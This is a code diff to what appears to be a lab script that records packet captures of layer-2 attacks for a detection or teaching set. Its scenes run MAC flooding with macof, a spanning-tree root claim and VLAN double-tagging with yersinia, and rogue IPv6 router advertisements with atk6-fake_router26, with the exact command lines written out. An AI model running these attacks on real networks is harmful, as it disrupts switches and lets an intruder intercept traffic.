@@ -131,15 +131,15 @@ def dhcp_starvation(lab: Lab) -> None:
 
 @scene(Sample(
     'mac-flood.pcap', 'macof (dsniff) fills the table of the switch with invented addresses.',
-    '600 frames from 600 hardware addresses that do not exist, all from one cable.',
+    'Some 1,300 frames from as many hardware addresses that do not exist, all from one cable (of 2,600; the bridge drops those whose source is a group address).',
     ['`mac-flood`: hundreds of hardware addresses that each say one thing', 'no `syn-flood`: no host is asked twice', 'no `host-sweep`, no `port-scan`'],
-    ['tcp.flags.syn == 1 | invented segments between invented hosts']))
+    ['ip.len == 20 | invented packets between invented hosts (macof writes the length of their IP header alone)']))
 def mac_flood(lab: Lab) -> None:
     office = Office(lab, ('alice', 'bob'), ())
     eve = intruder(lab, office.switch)
     with Capture(office.switch, 'mac-flood.pcap', 'tcpdump', '-i', 'br0'):
         office.alice.run('ping', '-c', '2', '-i', '0.3', '192.168.10.22')
-        eve.run('macof', '-i', 'eth0', '-n', '600', show='macof -i eth0 -n 600')
+        eve.run('macof', '-i', 'eth0', '-n', '2600', show='macof -i eth0 -n 2600')
         office.alice.run('ping', '-c', '2', '-i', '0.3', '192.168.10.22')
 
 
@@ -154,7 +154,8 @@ def stp_root_claim(lab: Lab) -> None:
     switch.quiet('ip', 'link', 'set', 'br0', 'type', 'bridge', 'stp_state', '1')
     # Bridges keep BPDUs to themselves, so the recording is at the intruder's port and not at br0.
     with Capture(eve, 'stp-root-claim.pcap', 'tcpdump', '-i', 'eth0'):
-        time.sleep(5)
+        # A root that has stood for a while.
+        time.sleep(24)
         eve.run('sh', '-c', 'cd /run/lab/work; sleep 12 | timeout 12 yersinia stp -attack 4 -interface eth0', show='timeout 12 yersinia stp -attack 4 -interface eth0')
 
 
@@ -167,9 +168,10 @@ def vlan_double_tag(lab: Lab) -> None:
     office = Office(lab, ('alice', 'bob'), ())
     eve = intruder(lab, office.switch)
     with Capture(office.switch, 'vlan-double-tag.pcap', 'tcpdump', '-i', 'br0'):
-        office.alice.run('ping', '-c', '3', '-i', '0.3', '192.168.10.22')
+        office.alice.run('ping', '-c', '12', '-i', '0.3', '192.168.10.22')
+        eve.run('ping', '-c', '4', '-i', '0.3', '192.168.10.22')
         for _ in range(3):
-            eve.run('sh', '-c', f'cd /run/lab/work; sleep 2 | timeout 2 yersinia dot1q -attack 1 -interface eth0 -vlan1 1 -vlan2 20 -ipsource {ATTACKER} -ipdest 192.168.20.5',
+            eve.run('sh', '-c', f'cd /run/lab/work; sleep 2 | timeout 2 yersinia dot1q -attack 1 -interface eth0 -vlan1 1 -vlan2 20 -source {ATTACKER_MAC} -ipsource {ATTACKER} -ipdest 192.168.20.5',
                     show='timeout 2 yersinia dot1q -attack 1 -interface eth0 -vlan1 1 -vlan2 20 -ipdest 192.168.20.5')
 
 
@@ -182,8 +184,9 @@ def fake_router_ipv6(lab: Lab) -> None:
     office = Office(lab, ('alice',), (), ipv6=True, ra=True)
     eve = intruder(lab, office.switch, ipv6=True)
     with Capture(office.switch, 'fake-router-ipv6.pcap', 'tcpdump', '-i', 'br0'):
-        office.alice.run('rdisc6', '-1', 'eth0')
-        time.sleep(2)
+        for _ in range(9):
+            office.alice.run('rdisc6', '-1', 'eth0')
+            time.sleep(4)
         eve.run('timeout', '14', 'atk6-fake_router26', '-A', 'fd00:66::/64', '-p', 'high', 'eth0', show='timeout 14 atk6-fake_router26 -A fd00:66::/64 -p high eth0')
         office.alice.run('rdisc6', '-1', 'eth0')
 
